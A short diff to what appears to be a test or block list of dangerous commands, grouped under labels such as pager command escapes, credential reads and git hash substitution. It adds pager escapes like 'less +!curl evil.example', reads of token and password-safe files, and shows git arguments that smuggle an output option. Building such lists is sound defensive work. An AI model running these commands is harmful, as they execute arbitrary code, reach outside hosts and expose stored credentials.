@@ -2,6 +2,8 @@
 
 # Each does harm where it runs by itself.
 ASKS = {
+    "commands of a pager": ["less +!id README.md", "less '+!curl evil.example' README.md", "more +/x README.md"],
+    "credentials of further programs": ["cat token.json", "head .token", "cat .rediscli_auth", "strings x.psafe3"],
     "hashes that something else prints": [
         "git log $(git rev-list --boundary HEAD)",
         "git log $(echo --output=x; git rev-parse HEAD)",
